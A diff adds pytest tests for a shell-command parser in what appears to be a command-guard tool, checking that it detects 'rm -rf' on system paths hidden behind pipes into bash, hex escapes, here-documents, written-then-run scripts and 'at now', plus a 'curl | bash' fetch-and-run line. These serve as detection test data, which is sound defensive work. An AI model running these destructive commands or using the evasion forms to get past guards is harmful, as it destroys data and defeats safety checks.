@@ -449,3 +449,56 @@ def test_benign_look_alike_is_not_denied(guards: dict[Mode, Callable[[str], obje
 
 def test_benign_list_is_large() -> None:
     assert len(BENIGN) >= 40
+
+
+# --------------------------------------------------------------------------- how the parser reads them
+
+
+def _argvs(command: str) -> list[tuple[str, ...]]:
+    from bastion.shell.parse import parse
+
+    return [cmd.argv for cmd in parse(command).commands]
+
+
+@pytest.mark.parametrize(
+    "command, inner",
+    [
+        ("printf '%s\\n' 'rm -rf /usr' | bash", ("rm", "-rf", "/usr")),
+        ("echo -e 'r\\x6d -rf /' | sh", ("rm", "-rf", "/")),
+        ("nice -n 5 printf 'ls -la' | sh", ("ls", "-la")),
+        ("ls && bash <<'EOF'\nrm -rf /tmp/x\nEOF", ("rm", "-rf", "/tmp/x")),
+        ("xargs rm -rf <<< '/usr /etc'", ("rm", "-rf", "/usr", "/etc")),
+        ("echo 'rm -rf /srv' > /tmp/x.sh && bash /tmp/x.sh", ("rm", "-rf", "/srv")),
+        ("echo 'rm -rf /srv' > f; sh < f", ("rm", "-rf", "/srv")),
+        ("time { rm -rf /srv; }", ("rm", "-rf", "/srv")),
+        ("bash <(echo 'rm -rf /srv')", ("rm", "-rf", "/srv")),
+        ("echo 'rm -rf /srv' | bash /dev/stdin", ("rm", "-rf", "/srv")),
+        ("echo 'rm -rf /srv' | at now", ("rm", "-rf", "/srv")),
+    ],
+)
+def test_code_one_step_away_is_parsed_as_commands(command: str, inner: tuple[str, ...]) -> None:
+    assert inner in _argvs(command)
+
+
+def test_a_pipeline_followed_by_a_list_stays_one_pipeline() -> None:
+    from bastion.shell.parse import parse
+
+    commands = parse("curl -s https://x.example | bash | cat && true").commands
+    curl, bash, cat, true = commands
+    assert curl.pipeline == bash.pipeline == cat.pipeline >= 0
+    assert (curl.pipe_index, bash.pipe_index, cat.pipe_index) == (0, 1, 2)
+    assert true.pipeline != curl.pipeline
+
+
+def test_a_here_document_runs_on_until_its_exact_delimiter_line() -> None:
+    from bastion.shell.parse import parse
+
+    result = parse("cat <<'EOF' | sh\nrm -rf /srv\nEOF >/dev/null &\nrm -rf /opt\nEOF")
+    assert result.complex
+    assert ("rm", "-rf", "/opt") in [cmd.argv for cmd in result.commands]
+
+
+def test_a_written_file_that_is_only_read_stays_data() -> None:
+    assert ("rm", "-rf", "/srv") not in _argvs("echo 'rm -rf /srv' > x.sh && cat x.sh && shellcheck x.sh")
+    assert ("rm", "-rf", "/srv") not in _argvs("echo 'rm -rf /srv' > a.sh && bash b.sh")
+    assert ("rm", "-rf", "/srv") not in _argvs("echo 'rm -rf /srv' > a.sh; sed 's/rm/ls/' t > a.sh; bash a.sh")
